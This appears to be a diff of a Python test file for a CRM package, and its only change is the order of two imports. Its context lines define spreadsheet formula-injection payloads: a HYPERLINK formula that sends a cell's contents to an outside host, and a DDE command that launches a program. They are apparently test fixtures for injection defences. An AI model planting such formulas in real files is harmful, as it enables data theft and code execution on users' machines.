@@ -9,8 +9,8 @@ import re
 import openpyxl
 import pytest
 
-from crm_core.config import ConfigError, load_config
 from crm_core.browser_testing import web_login
+from crm_core.config import ConfigError, load_config
 
 HYPERLINK = '=HYPERLINK("http://x?"&A1,"click")'
 CMD = "=cmd|' /C calc'!A0"
